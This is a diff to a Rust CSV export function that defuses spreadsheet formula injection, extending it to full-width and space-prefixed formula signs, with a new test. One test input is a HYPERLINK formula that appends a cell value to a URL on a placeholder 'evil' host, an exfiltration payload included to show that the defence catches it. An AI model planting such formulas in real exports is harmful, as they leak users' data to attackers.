@@ -174,7 +174,13 @@ pub fn to_csv(rows: &[ExportRow], encoding: Encoding) -> Vec<u8> {
 /// recovers every value exactly by removing one leading `'` where there is
 /// one.
 pub fn defuse(cell: String) -> String {
-    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\0', '\'']);
+    // Full-width and other look-alike signs too: Japanese Excel reads
+    // `＝` typed into a cell as `=`; and spaces before any of them.
+    const STARTS: [char; 14] = [
+        '=', '+', '-', '@', '\t', '\r', '\n', '\0', '\'', '＝', '＋', '－', '＠', '−',
+    ];
+    let after_space = cell.trim_start_matches([' ', '\u{3000}', '\u{200B}', '\u{FEFF}']);
+    let formula = cell.starts_with(STARTS) || after_space.starts_with(STARTS);
     let leading_zero =
         cell.len() > 1 && cell.starts_with('0') && cell.bytes().all(|b| b.is_ascii_digit());
     if formula || leading_zero {
@@ -278,6 +284,25 @@ mod tests {
         let mut r = csv::Reader::from_reader(csv.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(csv));
         let row = r.records().next().unwrap().unwrap();
         row.iter().map(str::to_owned).collect()
+    }
+
+    #[test]
+    fn full_width_and_spaced_formula_signs_are_defused_too() {
+        for cell in [
+            "＝HYPERLINK(\"http://evil/\"&A1;\"x\")",
+            "＋81",
+            "－1",
+            "＠SUM(A1)",
+            "−1",
+            " =1+1",
+            "\u{3000}=1+1",
+            "\u{200B}@A1",
+        ] {
+            assert_eq!(defuse(cell.into()), format!("'{cell}"), "{cell:?}");
+        }
+        for plain in ["山田 花子", "Santos, Maria", "38.5", "1 = 1"] {
+            assert_eq!(defuse(plain.into()), plain);
+        }
     }
 
     #[test]
